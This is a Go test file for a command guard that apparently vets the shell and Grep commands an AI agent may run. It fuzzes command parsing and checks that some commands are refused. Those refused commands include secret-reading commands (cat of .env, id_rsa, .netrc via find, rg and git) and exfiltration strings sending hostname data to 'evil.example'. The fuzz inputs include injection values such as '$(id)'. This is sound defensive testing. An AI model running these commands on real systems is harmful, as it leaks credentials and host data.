//go:build linux

package guard

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"

	"claudeops/internal/ops"
)

// planned is a command that was put together from the tables, with what it means.
type planned struct {
	r        *row
	words    []string // what the program is to get
	options  []string // name and value of each, in order
	operands []string
	files    []string // what it reads and changes
	line     string   // the same as text for a shell
}

// planner puts commands together.
type planner struct {
	rng  *rand.Rand
	g    *Guard
	rows []*row
}

func newPlanner(g *Guard, seed uint64) *planner {
	p := &planner{rng: rand.New(rand.NewPCG(7, seed)), g: g}
	for _, r := range g.tables.order {
		if r.alias == "" && !r.group && !r.free && r.tier < never && r.section != "Shell builtins" && r.section != "Wrappers: the inner command is judged" && r.section != "Shells and interpreters" {
			p.rows = append(p.rows, r)
		}
	}
	return p
}

func (p *planner) pick(list ...string) string { return list[p.rng.IntN(len(list))] }

// value is what may follow an option: also what looks like one.
func (p *planner) value() string {
	return p.pick("a", "7", "x.y", "k=v", "-q", "--", "--all", "a b", "", "it's", "=", "-", "*", "$x", "a\\b", "ü")
}

func (p *planner) operand() string {
	return p.pick("a", "b.txt", "7", "x=y", "a b", "-", "it's", "*.c", "$(id)", "ö", "a;b", "#x", "~")
}

// plan makes one command.
func (p *planner) plan() planned {
	r := p.rows[p.rng.IntN(len(p.rows))]
	out := planned{r: r, words: strings.Fields(r.cmd)}
	var operands []string
	for range p.rng.IntN(4) {
		operands = append(operands, p.operand())
	}
	tar := slices.Contains(r.judges, "tar") // its first word may be a bundle without a dash
	for range p.rng.IntN(5) {
		if len(operands) > 0 && !r.stop && !tar && p.rng.IntN(3) == 0 {
			out.words, out.operands, operands = append(out.words, operands[0]), append(out.operands, operands[0]), operands[1:]
		}
		if len(r.options) > 0 {
			p.addOption(&out)
		}
	}
	if !r.single && p.rng.IntN(3) == 0 || tar {
		out.words = append(out.words, "--")
		if !r.stop && p.rng.IntN(2) == 0 {
			operands = append(operands, p.pick("-z", "--zz", "-"))
		}
	}
	out.words, out.operands = append(out.words, operands...), append(out.operands, operands...)
	p.noteFiles(&out)
	quoted := make([]string, len(out.words))
	for i, w := range out.words {
		quoted[i] = p.quote(w)
	}
	out.line = strings.Join(quoted, " ")
	return out
}

// addOption adds one option, or a bundle of them, in one of its spellings.
func (p *planner) addOption(out *planned) {
	f := out.r.options[p.rng.IntN(len(out.r.options))]
	name := f.names[p.rng.IntN(len(f.names))]
	if f.tier >= never || name == "--next" || f.second != "" {
		return
	}
	if name == "-NUM" {
		out.words, out.options = append(out.words, fmt.Sprint("-", p.rng.IntN(50)+2)), append(out.options, "-NUM")
		return
	}
	short := len(name) == 2 && !out.r.single && name[0] == '-'
	head := ""
	if short && p.rng.IntN(3) == 0 {
		head = p.bundle(out)
	}
	word := name
	if head != "" {
		word = head + name[1:]
	}
	value := p.value()
	switch {
	case f.role == "" || f.optional && p.rng.IntN(2) == 0:
		out.words, out.options = append(out.words, word), append(out.options, name)
	case short && (f.optional || p.rng.IntN(2) == 0):
		if value == "" || value[0] == '=' {
			value = "v"
		}
		out.words, out.options = append(out.words, word+value), append(out.options, name+" "+value)
	case f.optional || !short && p.rng.IntN(2) == 0:
		out.words, out.options = append(out.words, word+"="+value), append(out.options, name+" "+value)
	default:
		out.words, out.options = append(out.words, word, value), append(out.options, name+" "+value)
	}
	if f.role == roleRead || f.role == roleWrite {
		if last := out.options[len(out.options)-1]; strings.HasPrefix(last, name+" ") {
			out.files = append(out.files, kindOf(f.role)+value)
		}
	}
}

func kindOf(r role) string {
	if r == roleRead {
		return "read "
	}
	return "change "
}

// bundle starts a word with a short option that takes no value.
func (p *planner) bundle(out *planned) string {
	for _, f := range out.r.options {
		for _, n := range f.names {
			if f.role == "" && f.tier == 0 && len(n) == 2 && n[0] == '-' && p.rng.IntN(6) == 0 {
				out.options = append(out.options, n)
				return n
			}
		}
	}
	return ""
}

// noteFiles notes the operands that are files, for rows that only have one kind.
func (p *planner) noteFiles(out *planned) {
	if len(out.r.args) != 1 || !out.r.args[0].many {
		return
	}
	switch r := out.r.args[0].role; r {
	case roleRead, roleWrite, roleDelete:
		for _, o := range out.operands {
			out.files = append(out.files, kindOf(r)+o)
		}
	default:
	}
}

// quote writes a word so that a shell reads exactly it.
func (p *planner) quote(w string) string {
	single := "'" + strings.ReplaceAll(w, "'", `'\''`) + "'"
	double := `"` + strings.NewReplacer(`\`, `\\`, `"`, `\"`, "$", `\$`, "`", "\\`").Replace(w) + `"`
	plain := w != "" && strings.Trim(w, letters+"-.=,/") == ""
	switch n := p.rng.IntN(5); {
	case plain && n < 3:
		return w
	case plain && n == 3 && len(w) > 1:
		return w[:1] + "'" + w[1:] + "'"
	case n%2 == 0:
		return single
	}
	return double
}

// sees compares a plan with what the judge made of its text.
func (p *planner) sees(t *testing.T, want planned) bool {
	t.Helper()
	reader, facts := newReader(), testFacts()
	parsed, bad := reader.parse(want.line)
	if bad != nil {
		t.Errorf("%s: %s", want.line, bad.why)
		return false
	}
	j := p.g.walk(reader, parsed.file, &facts)
	var options, operands []string
	found := false
	for _, s := range j.sorted {
		if s.row != want.r {
			continue
		}
		found = true
		operands = nil
		for _, g := range s.options {
			if g.has {
				options = append(options, g.name+" "+g.value.text)
			} else {
				options = append(options, g.name)
			}
		}
		for _, f := range s.operands {
			operands = append(operands, f.text)
		}
	}
	if !found {
		return len(want.words) > 0 && j.worst != nil && j.worst.need >= never // it was refused before its words were looked at
	}
	if slices.Contains([]string{"ssh", "exec", "redis", "curl", "yq"}, strings.Join(want.r.judges, "")) {
		return true // they divide their words more than once
	}
	if !slices.Equal(options, want.options) || !slices.Equal(operands, want.operands) {
		t.Errorf("%s (%s)\n judge: %q %q\n  plan: %q %q", want.line, want.r.cmd, options, operands, want.options, want.operands)
	}
	for _, f := range want.files {
		if len(want.r.judges) == 0 && len(want.r.variants) == 0 && len(want.r.needs) == 0 && !slices.Contains(j.files, f) {
			t.Errorf("%s: the judge did not see %q, only %q", want.line, f, j.files)
		}
	}
	return true
}

// TestTheJudgeSeesWhatTheProgramGets puts commands together from the tables, in many spellings. The judge must find the
// subcommand, options, operands and files that they were made of, and bash must give a program exactly their words.
func TestTheJudgeSeesWhatTheProgramGets(t *testing.T) {
	t.Parallel()
	g, s := newGuard(t), newSandbox(t)
	p := newPlanner(g, 1)
	count := 6000
	if testing.Short() {
		count = 1500
	}
	var plans []planned
	for range count {
		plan := p.plan()
		p.sees(t, plan)
		if harmless(plan.line) {
			plans = append(plans, plan)
		}
		if t.Failed() {
			return
		}
	}
	ran := 0
	for batch := range slices.Chunk(plans[:min(len(plans), count/4)], batchSize) {
		var scripts []string
		for _, plan := range batch {
			scripts = append(scripts, plan.line)
		}
		for i, got := range s.run(t, scripts, viaArgument) {
			if got.cut {
				continue
			}
			ran++
			if len(got.commands) != 1 || !slices.Equal(got.commands[0], batch[i].words) {
				t.Errorf("%s: the program got %q, want %q", batch[i].line, got.commands, batch[i].words)
			}
		}
	}
	if ran == 0 {
		t.Error("bash ran nothing")
	}
	t.Logf("%d commands judged, %d run", count, ran)
}

// TestTheScriptThatRunsKeepsTheWords runs the text that the judge hands out: the same words, and those of the safe mode.
func TestTheScriptThatRunsKeepsTheWords(t *testing.T) {
	t.Parallel()
	g, s := newGuard(t), newSandbox(t)
	p := newPlanner(g, 2)
	var scripts []string
	var want [][]string
	for n := 0; n < 20000 && len(scripts) < batchSize; n++ {
		plan := p.plan()
		if !harmless(plan.line) {
			continue
		}
		facts := testFacts()
		d := g.Check(ops.Tier3, "Bash", bashInput(t, plan.line), facts)
		if !d.Allowed() || strings.Contains(d.Script, "/") {
			continue
		}
		words, _ := safeMode(plan.words[0])
		scripts = append(scripts, d.Script)
		want = append(want, slices.Insert(slices.Clone(plan.words), 1, words...))
	}
	for i, got := range s.run(t, scripts, viaArgument) {
		if !got.cut && (len(got.commands) != 1 || !slices.Equal(got.commands[0], want[i])) {
			t.Errorf("%s: the program got %q, want %q", scripts[i], got.commands, want[i])
		}
	}
	if len(scripts) < batchSize/2 {
		t.Errorf("only %d commands are allowed", len(scripts))
	}
}

// spellings are patterns that match a name, and few others.
func spellings(name string) []string {
	out := []string{name, strings.ToUpper(name), "**/" + name}
	for i := range len(name) {
		out = append(out, name[:i]+"?"+name[i+1:], name[:i]+"["+name[i:i+1]+"]"+name[i+1:])
		if i > 1 {
			out = append(out, name[:i]+"*")
		}
	}
	return out
}

func TestNoSpellingPicksASecret(t *testing.T) {
	g, facts := newGuard(t), testFacts()
	for _, name := range []string{".env", "id_rsa", "credentials.json", ".netrc"} {
		for _, spelled := range spellings(name) {
			for _, command := range []string{
				"grep -r --include='%s' . /repos/infra", "rg --hidden -g '%s' . /repos/infra", "rg --iglob '%s' .", "find /repos -name '%s' -exec cat {} +",
				"find /repos -ipath '*/%s' -exec head -n 9 {} \\;", "find /repos -name '%s' | sort | xargs cat", "git log -p -- '%s'", "git log -p -- ':(top)%s'",
				"git show ':0:%s'", "git grep . -- ':/%s'", "git diff HEAD -- '%s'", "git show 'HEAD@{12:00}:%s'", "git stash show -p -- '%s'",
			} {
				command = strings.ReplaceAll(command, "%s", spelled)
				if d := g.Check(ops.Tier3, "Bash", bashInput(t, command), facts); d.Allowed() {
					t.Errorf("%q is allowed", command)
				}
			}
			input, err := json.Marshal(map[string]string{"pattern": ".", "path": "/repos/infra", "glob": spelled})
			must(t, err)
			if d := g.Check(ops.Tier3, "Grep", input, facts); d.Allowed() {
				t.Errorf("Grep with %s is allowed", input)
			}
		}
	}
}

// What goes elsewhere is written out, in whichever place of whichever program.
func TestNoProgramSendsWhatIsPutTogetherAtRunTime(t *testing.T) {
	g, facts := newGuard(t), testFacts()
	for _, r := range g.tables.order {
		if !r.sends || r.group {
			continue
		}
		for _, o := range r.options {
			if o.role == "" || o.optional || o.second != "" {
				continue
			}
			command := r.cmd + " " + o.names[0] + ` "$(cat /etc/hostname).evil.example"`
			if d := g.Check(ops.Tier3, "Bash", bashInput(t, command), facts); d.Allowed() {
				t.Errorf("%q is allowed", command)
			}
		}
		if command := r.cmd + ` "$(cat /etc/hostname).evil.example"`; len(r.args) > 0 {
			if d := g.Check(ops.Tier3, "Bash", bashInput(t, command), facts); d.Allowed() {
				t.Errorf("%q is allowed", command)
			}
		}
	}
}
